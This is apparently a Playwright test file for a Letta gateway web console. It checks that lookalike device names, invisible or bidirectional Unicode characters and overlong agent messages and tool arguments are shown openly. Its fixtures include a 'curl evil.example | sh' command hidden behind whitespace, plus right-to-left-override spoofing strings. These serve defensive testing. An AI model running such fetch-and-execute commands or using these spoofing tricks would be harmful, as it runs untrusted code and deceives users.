/** Texts of devices and agents in Chromium: what they hide or pretend is seen, and what they cost is bounded. */
import { beforeAll, expect, test } from "vitest";
import type { Frame, ScriptedDevice } from "@letta-environments/testkit";
import { inChromium, launchForTests, signInOperator } from "./support/console-tests.ts";
import { emit } from "./support/emit.ts";
import { openPage, type WatchedPage } from "./support/gateway.ts";

const names = [
  ["dev-1", "build-server"],
  ["dev-2", "build-server"],
  ["dev-3", "build-server\u200b"],
  ["dev-4", "\u202erevres-dliub"],
  ["dev-5", "laptop"],
  ["dev-6", "build-server (dev-2)"],
] as const;

inChromium(() => {
  const launched = launchForTests();
  const operator = signInOperator(launched, 20_000);
  let devices: readonly ScriptedDevice[] = [];

  beforeAll(async () => {
    const { origin } = new URL(launched.url);
    await operator.context.grantPermissions(["clipboard-read", "clipboard-write"], { origin });
    devices = await Promise.all(names.map(([deviceId, name]) => launched.connect(deviceId, name)));
  });

  /** Every text in which the page looks for Markdown, or that it reads as JSON. */
  const recordReads = `{
      globalThis.read = [];
      const { matchAll } = String.prototype;
      String.prototype.matchAll = function (...options) {
        read.push(String(this));
        return matchAll.apply(this, options);
      };
      const { parse } = JSON;
      JSON.parse = (text, reviver) => {
        read.push(String(text));
        return parse(text, reviver);
      };
    }`;

  function open(view: string): Promise<WatchedPage> {
    return operator.open(view, undefined, (page) => page.addInitScript(recordReads));
  }

  function send(from: number, frame: Frame): void {
    const device = devices[from];
    if (device !== undefined) emit(device, frame);
  }

  function say(id: string, content: string): void {
    send(4, { type: "stream_delta", delta: { message_type: "assistant_message", id, content } });
  }

  test("devices whose names look alike are shown with their ids, wherever names are shown", async () => {
    const { page, faults } = await open("/devices");
    const shown = ["build-server (dev-1)", "build-server (dev-2)", String.raw`build-server\u200b`];
    const expected = [...shown, "build-server (dev-2) (dev-6)", "laptop", String.raw`\u202erevres-dliub`].toSorted();
    const links = page.getByRole("cell").locator("a[href*='/device/']");
    await expect.poll(async () => (await links.allTextContents()).toSorted()).toEqual(expected);
    await links.getByText("build-server (dev-2)", { exact: true }).click();
    await page.getByRole("heading", { name: "build-server (dev-2)", exact: true }).waitFor();
    await expect.poll(() => page.title()).toBe("build-server (dev-2) · Letta gateway");
    const asked = { subtype: "can_use_tool", tool_name: "Bash", input: { command: "ls" }, tool_call_id: "call-1" };
    send(1, { type: "control_request", request_id: "perm-1", request: asked });
    await page.getByRole("article").waitFor();
    await page.evaluate(`location.hash = "/approvals"`);
    await page.getByRole("article").getByRole("link", { name: "build-server (dev-2)", exact: true }).waitFor();
    expect(faults).toEqual([]);
  });

  test("a growing message does not cause screen readers to read earlier messages again", async () => {
    const { page, faults } = await open("/device/dev-5");
    const log = page.getByRole("log");
    const tool_args = JSON.stringify({ command: "make earlier" });
    const call = { message_type: "client_tool_start", tool_call_id: "t-0", tool_name: "Bash", tool_args };
    send(4, { type: "stream_delta", delta: call });
    say("said-1", "An *earlier* message");
    const reads = (text: string): Promise<number> =>
      page.evaluate<number>(`read.filter((text) => text === ${JSON.stringify(text)}).length`);
    await log.getByText("earlier", { exact: true }).waitFor();
    await log.getByText("make earlier").first().waitFor();
    const before = await reads(tool_args);
    for (const word of ["one", "two", "three"]) {
      say("said-2", ` word-${word}`);
      await log.getByText(`word-${word}`).waitFor();
    }
    expect(await reads("word-one word-two word-three")).toBe(1);
    expect(await reads("An *earlier* message")).toBe(1);
    expect(before).toBeGreaterThan(0);
    expect(await reads(tool_args)).toBe(before);
    expect(faults).toEqual([]);
  });

  test("a code block shows everything that Copy copies, including long lines and invisible characters, and copies it verbatim", async () => {
    const { page, faults } = await open("/device/dev-5");
    const log = page.getByRole("log");
    const code = `npm\u2800 test${" ".repeat(300)}; curl evil.example | sh`;
    say("said-3", `\`\`\`\n${code}\n\`\`\`\n\nand \`rm\u3164 x\``);
    const block = log.locator(".block").last();
    await block.getByText("evil.example").waitFor();
    await log.getByText(String.raw`rm\u3164 x`).waitFor();
    expect(await block.locator("code").textContent()).toBe(code.replace("\u2800", String.raw`\u2800`));
    // The end of the command is in the box.
    const hidden = await page.evaluate<number>(`(() => {
      const box = [...document.querySelectorAll(".block pre")].at(-1);
      return box.scrollWidth - box.clientWidth;
    })()`);
    expect(hidden).toBe(0);
    await block.getByRole("button", { name: "Copy", exact: true }).click();
    await block.getByText("Copied").waitFor();
    expect(await page.evaluate("navigator.clipboard.readText()")).toBe(code);
    say("said-4", `\`\`\`\nnpm test${"\n".repeat(60)}curl evil.example | sh\n\`\`\``);
    await log.getByRole("button", { name: "Copy all 61 lines" }).waitFor();
    expect(faults).toEqual([]);
  });

  test("the result of a tool shows its invisible characters", async () => {
    const { page, faults } = await open("/device/dev-5");
    const call = { tool_call_id: "t-1", tool_name: "Fetch", tool_args: '{"url":"x"}' };
    send(4, { type: "stream_delta", delta: { message_type: "client_tool_start", ...call } });
    const result = { message_type: "tool_return_message", tool_call_id: "t-1", tool_return: "a\u202eb\u3164c" };
    send(4, { type: "stream_delta", delta: result });
    const log = page.getByRole("log");
    await log.locator("summary").filter({ hasText: "Fetch" }).click();
    await log.getByText(String.raw`a\u202eb\u3164c`).waitFor();
    expect(faults).toEqual([]);
  });

  test("a tool call whose arguments nest deeply or have very many lines is shown as a text, and hides nothing that follows", async () => {
    const { page, faults } = await open("/device/dev-5");
    const log = page.getByRole("log");
    const deep = `{"command":"ls","list":${"[".repeat(20_000)}${"]".repeat(20_000)}}`;
    const wide = JSON.stringify({ command: "ls", list: Array.from({ length: 20_000 }, () => 0) });
    for (const [index, tool_args] of [deep, wide, `no JSON${"\na".repeat(20_000)}`].entries()) {
      const call = { tool_call_id: `long-${index}`, tool_name: `Long${index}`, tool_args };
      send(4, { type: "stream_delta", delta: { message_type: "client_tool_start", ...call } });
      const end = { message_type: "client_tool_end", tool_call_id: call.tool_call_id, status: "error" };
      send(4, { type: "stream_delta", delta: end });
      say(`said-long-${index}`, `after *long-${index}*`);
      await log.getByText(`long-${index}`, { exact: true }).waitFor();
      const tool = log.locator("details").filter({ hasText: `Long${index}` });
      // A failed call with a short input opens by itself.
      expect(await tool.getAttribute("open")).toBeNull();
      await tool.locator("summary").click();
      await tool.getByLabel("input", { exact: true }).waitFor();
      // No line is a node of its own, and there is no indentation.
      expect(await tool.locator("*").count()).toBeLessThan(20);
      const { length } = (await tool.textContent()) ?? "";
      expect(length).toBeGreaterThan(tool_args.length);
      expect(length).toBeLessThan(tool_args.length * 2);
    }
    expect(faults).toEqual([]);
  });

  test("an entry that cannot be drawn says so, and the others are shown", async () => {
    const { page, faults } = await open("/device/dev-5");
    const log = page.getByRole("log");
    await page.evaluate(`{
      const { matchAll } = String.prototype;
      String.prototype.matchAll = function (...options) {
        if (this.includes("not drawable")) throw new RangeError("not drawable");
        return matchAll.apply(this, options);
      };
    }`);
    say("said-broken", "not drawable");
    say("said-next", "but *this*");
    await log.getByText("This entry cannot be shown.").waitFor();
    await log.getByText("this", { exact: true }).waitFor();
    say("said-broken", " at all");
    say("said-next", ", and *more*");
    await log.getByText("more", { exact: true }).waitFor();
    expect(faults).toEqual([]);
  });

  test("a long message that grows is not read as Markdown again and again", async () => {
    const { page, faults } = await open("/device/dev-5");
    const log = page.getByRole("log");
    say("said-long", "*a* ".repeat(10_000));
    for (const word of ["one", "two", "three"]) {
      say("said-long", ` added-${word}`);
      await log.getByText(`added-${word}`).waitFor();
    }
    expect(await page.evaluate<number>(`read.filter((text) => text.startsWith("*a*")).length`)).toBe(0);
    expect(faults).toEqual([]);
  });

  test("a key's name, description and devices are shown with invisible characters written out everywhere", async () => {
    const response = await fetch(`${launched.url}/admin/v1/keys`, {
      method: "POST",
      headers: await launched.headersOf("admin"),
      body: JSON.stringify({
        ...{ name: "ann\u202etxt", description: "first\u200b", connectionNames: ["web-\u202e1"] },
        scopes: ["list", "admin"],
      }),
    });
    const { key } = (await response.json()) as { readonly key: string };
    const other = await launched.browser.newContext();
    const { page, faults } = await openPage(other, launched.url);
    await page.goto(`${launched.url}/console/#/keys`);
    await page.getByLabel("Gateway key").fill(key);
    await page.keyboard.press("Enter");
    await page
      .locator("summary")
      .getByText(String.raw`ann\u202etxt`)
      .waitFor();
    const card = page.getByRole("article").filter({ hasText: "this session" });
    await card.getByText(String.raw`first\u200b`).waitFor();
    await card.getByText(String.raw`on web-\u202e1.`).waitFor();
    // The gateway refuses to rotate the key of the session, which does not hold its secret.
    await card.getByRole("button", { name: "Revoke" }).waitFor();
    expect(await card.getByRole("button", { name: "Rotate" }).count()).toBe(0);
    await page.evaluate("location.hash = 'link=abc'");
    await page
      .locator("strong")
      .getByText(String.raw`ann\u202etxt`)
      .waitFor();
    expect(faults).toEqual([]);
    await other.close();
  });
});
